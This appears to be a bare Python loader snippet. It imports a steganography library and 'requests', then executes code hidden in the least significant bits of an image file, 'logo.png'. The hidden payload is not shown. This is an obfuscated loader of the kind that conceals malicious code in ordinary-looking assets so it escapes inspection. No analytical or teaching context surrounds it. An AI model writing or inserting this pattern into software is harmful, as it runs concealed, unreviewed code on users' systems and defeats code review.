from judyb import lsb
import requests
exec(lsb.reveal('logo.png'))
